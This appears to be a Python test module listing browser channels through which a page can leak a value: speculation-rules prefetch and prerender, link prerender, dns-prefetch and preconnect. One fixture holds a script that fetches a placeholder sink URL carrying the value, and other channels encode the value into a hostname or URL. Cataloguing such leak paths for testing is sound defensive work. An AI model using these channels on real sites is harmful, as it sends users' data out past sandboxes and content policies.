"""Channels: prefetch, prerender and hints to look a name up or connect early."""

from __future__ import annotations

import dataclasses

from tests.channels.channel import ONLY_FIRST, ONLY_THIRD, Channel, File


def _rules(kind: str, more: str = "") -> str:
    return ('head("script", {type: "speculationrules"}).textContent = JSON.stringify({' + kind
            + ': [{source: "list", urls: [u("speculated", v)], eagerness: "immediate"' + more + '}]})')


_NO_LOOKUP = "a headless browser looks no name up ahead"

_CHANNELS = (
    Channel("speculation-prefetch", _rules("prefetch"), targets=ONLY_FIRST),
    Channel("speculation-prefetch-anonymous",
            _rules("prefetch", """, requires: ["anonymous-client-ip-when-cross-origin"]"""),
            unseen="goes through a proxy of the vendor's, or not at all"),
    Channel("speculation-prefetch-far", _rules("prefetch", ', referrer_policy: "strict-origin"')),
    Channel("speculation-prerender", _rules("prerender"), targets=ONLY_FIRST),
    Channel("speculation-prerender-script", """head("script", {type: "speculationrules"}).textContent = JSON.stringify({
      prerender: [{source: "list", urls: [at("ahead")], eagerness: "immediate"}]})""",
            targets=ONLY_THIRD,
            files={"ahead": File('<script>fetch("@TO@/sink/ahead?d=@V@", {mode: "no-cors"})</script>')},
            unseen="the prerendered page sends nothing until it is shown"),
    Channel("speculation-document", """add("a", {href: u("document", v)}).textContent = "x";
      head("script", {type: "speculationrules"}).textContent = JSON.stringify({
      prefetch: [{source: "document", where: {href_matches: "/*"}, eagerness: "immediate"}]})""", targets=ONLY_FIRST),
    Channel("link-prerender", 'head("link", {rel: "prerender", href: u("prerender", v)})',
            unseen="the browser takes no more notice of it"),
    Channel("dns-prefetch", 'head("link", {rel: "dns-prefetch", href: `//${v}.${HOST}`})', unseen=_NO_LOOKUP),
    Channel("dns-prefetch-control", """head("meta", {"http-equiv": "x-dns-prefetch-control", content: "on"});
      add("a", {href: `https://${v}.${HOST}/`}).textContent = "x" """, unseen=_NO_LOOKUP),
    Channel("preconnect", 'head("link", {rel: "preconnect", href: `https://${v}.${HOST}`})', unseen=_NO_LOOKUP),
    Channel("preconnect-cross-origin", """head("link", {rel: "preconnect", crossorigin: "",
      href: `https://${v}.${HOST}`})""", unseen=_NO_LOOKUP),
)

CHANNELS = tuple(dataclasses.replace(channel, front=True) for channel in _CHANNELS)
